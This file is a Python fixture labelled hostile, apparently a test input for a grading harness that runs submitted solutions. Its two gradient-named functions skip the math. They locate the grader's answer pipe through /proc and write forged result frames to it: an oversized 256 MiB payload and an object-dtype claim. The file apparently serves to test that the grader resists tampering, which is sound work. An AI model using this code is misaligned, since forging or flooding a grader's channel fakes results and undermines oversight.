
# --- HOSTILE (appended to the correct solution): write forged frames on the answer channel --
# --- (a 256 MiB payload, a non-numeric dtype; see losses.py for the import-time one) -------
import os as _os
import struct as _struct


def _answers_fd():
    """The worker's answer channel: named on its command line (a worker bubblewrap started), or
    else the one write-only pipe besides stdout and stderr (a worker forked by the template)."""
    try:
        with open("/proc/self/cmdline", "rb") as handle:
            argv = handle.read().split(b"\0")
        if b"--answers-fd" in argv:
            return int(argv[argv.index(b"--answers-fd") + 1])
    except (OSError, ValueError, IndexError):
        pass
    try:
        names = _os.listdir("/proc/self/fd")
    except OSError:
        return None
    for name in names:
        fd = int(name)
        try:
            target = _os.readlink(f"/proc/self/fd/{fd}")
            with open(f"/proc/self/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, ValueError, IndexError):
            continue
        if fd > 2 and target.startswith("pipe:") and flags & 3 == 1:  # O_WRONLY
            return fd
    return None


def _frame(head, payload_len=0):
    return _struct.pack("<4sIQ", b"DLG1", len(head), payload_len) + head


def softmax_jacobian(z):
    fd = _answers_fd()
    head = (b'{"ok": true, "kind": "ndarray", "value": {"t": "array", "dtype": "|u1", '
            b'"shape": [268435456], "offset": 0, "nbytes": 268435456}}')
    _os.write(fd, _frame(head, 256 << 20))
    block = b"\0" * (1 << 20)
    for _ in range(256):
        _os.write(fd, block)
    raise RuntimeError("unreachable: the grader stops reading first")


def sigmoid_grad(z):
    fd = _answers_fd()
    head = (b'{"ok": true, "kind": "ndarray", "value": {"t": "array", "dtype": "|O", '
            b'"shape": [1], "offset": 0, "nbytes": 8}}')
    _os.write(fd, _frame(head, 8) + b"\0" * 8)
    raise RuntimeError("the forged frame above is read first")
